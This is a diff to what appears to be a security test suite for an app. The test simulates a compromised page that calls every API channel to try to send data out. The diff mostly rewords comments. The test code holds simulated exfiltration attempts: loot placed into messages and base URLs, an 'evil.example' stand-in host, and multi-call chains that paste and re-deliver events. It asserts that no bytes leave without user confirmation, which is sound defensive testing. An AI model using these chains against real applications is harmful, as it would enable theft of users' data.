@@ -10,10 +10,10 @@ import { measure, number, reportFigure } from '../support/figures.ts';
 import { connectUser, startAttack, type Attack } from '../support/hostile-page.ts';
 
 /*
- * Goal C3 of `npm run security`: a compromised page that calls the whole contract sends data to nobody
- * without the user's agreement in a native dialog. A real server stands for the attacker's host. Requests to
- * the account's own service and mail drafts to stored contacts are the product's purpose; they are bounded,
- * and counted separately.
+ * Goal C3 of `npm run security`: a compromised page that calls the whole contract cannot send data to anyone
+ * unless the user agrees in a native dialog. A real server plays the attacker's host. Requests to the
+ * account's own service and mail drafts to stored contacts are the product's purpose, so they are limited and
+ * counted separately.
  */
 
 const MESSAGES_PER_CHANNEL = IS_FULL ? 60 : 3;
@@ -31,11 +31,12 @@ const calls: readonly { readonly channel: string; readonly def: CallDef }[] = Ob
   ),
 );
 
-/** These end the attack on the open workspace, so they come last. */
+/** Calls to these channels may end the attack on the open workspace, so they come last. */
 const LAST = /^(workspaces\.(leave|open|remove|exploreDemo)|privacy\.|backups\.|keys\.|demo\.)/;
 
 /**
- * Puts loot into every text of a message, the attacker's address into every address, and real ids into ids.
+ * Puts loot into every text of a message, the attacker's address into every base URL, and real ids into every
+ * id field.
  */
 function armed(value: unknown, bait: string, ids: readonly string[], at: number): unknown {
   if (Array.isArray(value)) return value.map((part, index) => armed(part, bait, ids, at + index));
@@ -65,7 +66,7 @@ async function callEverything(attack: Attack, ids: readonly string[]): Promise<{
       counts.sent += 1;
       if (reply.ok) counts.ok += 1;
       else expect(reply.error.kind, channel).not.toBe('internal');
-      // The rolling minute of the governor must not stop the attack.
+      // The governor's minute limit must not stop the attack.
       attack.waitMinute();
     }
   }
@@ -80,7 +81,7 @@ const event = (companyId: string, website: string, more: object = {}): object =>
 
 const evil = `https://evil.example/${LOOT}`;
 
-/** The ways out that need several calls. */
+/** Tries to send data in ways that need several calls. */
 async function tryChains(
   { app: { api, port }, waitMinute, bait }: Attack,
   ids: readonly string[],
@@ -96,16 +97,16 @@ async function tryChains(
       const reply = await port.request('companies.get', { id: companyId });
       return reply.ok;
     }, `company ${companyId} in the library`);
-  // A company that only the paste describes, and one that the service described first.
+  // Pastes events about a company that is not stored yet and about one that the service has described.
   const pasted = await paste(event('cmp_pasted', evil));
   await merged('cmp_pasted');
   await paste(event(ids[0] ?? '', evil));
   for (const companyId of ['cmp_pasted', ids[0] ?? '']) await open(companyId);
-  // The paste disappears from the stream, and comes back.
+  // Removes the pasted event from the signal stream, and restores it.
   if (pasted.outcome !== 'refused') await api.signals.remove({ id: pasted.id }).catch(() => null);
   await port.request('marks.undo', {});
   await open('cmp_pasted');
-  // An event that was really delivered, then pasted again with another address.
+  // Delivers an event to the receiver, then pastes the same event with another address.
   const receiverPort = await freePort();
   await api.signals.setAddress({ port: receiverPort, tunnelHost: null });
   const { key } = await api.signals.makeKey({ place: 'session' });
@@ -119,7 +120,7 @@ async function tryChains(
   await paste(event('cmp_real', evil));
   await until(async () => (await api.signals.summary({})).total > 0, 'the pasted events');
   await open('cmp_real');
-  // A key for the attacker's host, many times, in the path and in the key.
+  // Connects to the attacker's host many times, with loot in the path and in the key.
   const { cost: accepted } = await api.workspaces.connectPrice({});
   for (let at = 0; at < connects; at += 1) {
     const request = { apiKey: `${LOOT}${at}`, place: 'session', people: { mode: 'none' }, accepted };
@@ -163,7 +164,7 @@ describe('a compromised page', () => {
       );
       expect([...new URL(url).searchParams.keys()]).toEqual(['subject', 'body']);
     }
-    // The eleventh asks, and six questions a minute are the most.
+    // From the eleventh draft on, the app asks the user, but at most six times a minute.
     expect(questions).toHaveLength(6);
     expect(questions[0]).toEqual({
       kind: 'open-link',
@@ -197,7 +198,7 @@ describe('a compromised page', () => {
       reportFigure(`C3 ${tried}: ${bytes} bytes without a native confirmation (${chainQuestions} questions)`);
       measure('C3', { tried, violations: `${bytes} bytes` });
       expect({ bytes, leaks: leaks.map((url) => url.slice(0, 80)) }).toEqual({ bytes: 0, leaks: [] });
-      // The attack reaches the places that it is about: it asked about the attacker's addresses.
+      // The attack was effective: it made the app ask the user about the attacker's hosts.
       const hosts = attack.questions.flatMap((question) => ('host' in question ? [question.host] : []));
       expect(hosts).toEqual(expect.arrayContaining([new URL(bait).host, 'evil.example']));
       expect(ok).toBeGreaterThan(sent / 5);
